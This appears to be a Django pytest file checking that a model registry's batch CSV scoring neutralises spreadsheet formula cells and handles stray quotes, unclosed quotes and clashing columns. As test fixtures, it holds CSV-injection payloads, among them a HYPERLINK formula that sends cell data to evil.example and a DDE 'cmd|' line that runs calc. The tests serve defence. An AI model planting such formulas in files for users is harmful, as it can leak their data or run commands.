"""Hostile batch files: formulas, stray quotes, unclosed quotes, repeated and clashing columns."""

import csv
import io

import pandas as pd
import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage

from registry.batch import files as batch
from registry.batch.jobs import batch_job_create
from registry.catalog.services import model_version_register
from registry.models import JobStatus
from tests.conftest import csv_bytes
from tests.registry.test_batch import result_rows, run, upload

pytestmark = pytest.mark.django_db

HEADER = "age,sex,bmi,bp,s5,region"
ROW = "50,male,26.4,93,4.6,north"
# What an attacker puts in a cell for a colleague to open in a spreadsheet.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]


def test_formula_cells_in_the_users_columns_come_back_as_text(
    clinic_version, django_capture_on_commit_callbacks
):
    frame = pd.DataFrame({"note": [*FORMULAS, "+1", "-3.5", "plain"], "age": range(40, 46)}).assign(
        sex="male", bmi=26.4, bp=93, s5=4.6, region="north"
    )
    job = run(clinic_version, csv_bytes(frame), django_capture_on_commit_callbacks)
    assert job.status == JobStatus.SUCCEEDED, job.message
    notes = [row["note"] for row in result_rows(job)]
    assert notes == ["'" + f for f in FORMULAS] + ["+1", "-3.5", "plain"]


def test_formula_cells_in_an_unquoted_file_are_neutralised_too(
    clinic_version, django_capture_on_commit_callbacks
):
    data = f"note,{HEADER}\n=1+2,{ROW}\n@A1,{ROW}\nfine,{ROW}\n-7,{ROW}\n".encode()
    job = run(clinic_version, data, django_capture_on_commit_callbacks)
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert [row["note"] for row in result_rows(job)] == ["'=1+2", "'@A1", "fine", "-7"]


def test_class_labels_that_look_like_formulas_are_neutralised(
    iris_frame, django_capture_on_commit_callbacks
):
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    labels = {"setosa": "=cmd|' /C calc'!A0", "versicolor": "@x", "virginica": "ok"}
    frame = iris_frame.assign(species=iris_frame["species"].map(labels))
    X = frame.drop(columns="species")
    version = model_version_register(
        name="formulas",
        artifact=sio.dumps(LogisticRegression(max_iter=500).fit(X, frame["species"])),
        reference=csv_bytes(frame),
        target="species",
    )
    job = run(version, csv_bytes(X.iloc[[0, 60, 120]]), django_capture_on_commit_callbacks)
    assert job.status == JobStatus.SUCCEEDED, job.message
    with default_storage.open(job.output_file, "rb") as handle:
        text = handle.read().decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[4] for r in rows[1:]] == ["'=cmd|' /C calc'!A0", "'@x", "ok"]
    # No cell anywhere in the download starts a formula, header included.
    assert not [c for r in rows for c in r if c.startswith(("=", "@"))]


def test_a_stray_inch_mark_does_not_merge_120000_rows_into_one(settings):
    rows = 120_000
    body = f'note,{HEADER}\n5" screen,{ROW}\n' + f"ok,{ROW}\n" * (rows - 1)
    _header, spans = batch.split(io.BytesIO(body.encode()), chunk_rows=50_000)
    assert [s.rows for s in spans] == [50_000, 50_000, 20_000]
    assert spans[-1].first_row == 100_000


def test_a_stray_inch_mark_in_the_first_row_is_scored_and_kept(
    clinic_version, django_capture_on_commit_callbacks, settings
):
    settings.PORTAL = {**settings.PORTAL, "BATCH_CHUNK_ROWS": 2}
    lines = [f"note,{HEADER}", f'5" screen,{ROW}', f'"quoted, with comma",{ROW}']
    lines += [f'"a ""real"" quote",{ROW}', f"x,{ROW}", f'12" and 3",{ROW}']
    job = run(
        clinic_version, ("\n".join(lines) + "\n").encode(), django_capture_on_commit_callbacks
    )
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert (job.rows_total, job.chunks_total) == (5, 3)
    assert [r["note"] for r in result_rows(job)] == [
        '5" screen',
        "quoted, with comma",
        'a "real" quote',
        "x",
        '12" and 3"',
    ]


def test_a_quote_that_never_closes_fails_the_file_naming_its_line():
    body = f"note,{HEADER}\nok,{ROW}\n" + f'"never closed,{ROW}\n' + f"ok,{ROW}\n" * 40_000
    with pytest.raises(ValidationError, match="Line 3 opens a quoted field that is not closed"):
        batch.split(io.BytesIO(body.encode()), chunk_rows=50_000)


def test_a_header_that_repeats_a_column_is_refused_naming_it(clinic_version):
    data = f"{HEADER},bmi,id,id\n{ROW},27,1,2\n".encode()
    with pytest.raises(ValidationError, match="more than once: bmi, id"):
        batch_job_create(version=clinic_version, upload=upload(data), name="x.csv", user=None)


def test_a_users_prediction_column_is_kept_and_ours_is_suffixed(
    clinic_version, django_capture_on_commit_callbacks
):
    data = f"prediction,{HEADER},probability_yes\nmine,{ROW},0.5\n".encode()
    job = run(clinic_version, data, django_capture_on_commit_callbacks)
    assert job.status == JobStatus.SUCCEEDED, job.message
    (row,) = result_rows(job)
    assert (row["prediction"], row["probability_yes"]) == ("mine", "0.5")
    assert row["prediction_2"] in {"yes", "no"}
    assert float(row["probability_yes_2"]) + float(row["probability_no"]) == pytest.approx(1)


def test_the_rounded_download_rounds_our_columns_not_the_users(
    clinic_version, django_capture_on_commit_callbacks, client, make_user
):
    user = make_user("ana", "analyst")
    data = f"{HEADER},probability_yes,prediction\n{ROW},0.123456,mine\n".encode()
    job = run(clinic_version, data, django_capture_on_commit_callbacks, user=user)
    assert job.status == JobStatus.SUCCEEDED, job.message
    client.force_login(user)
    response = client.get(f"/jobs/{job.pk}/result/")
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert (row["probability_yes"], row["prediction"]) == ("0.123456", "mine")
    assert len(row["probability_yes_2"].partition(".")[2]) == 3
    assert row["prediction_2"] in {"yes", "no"}
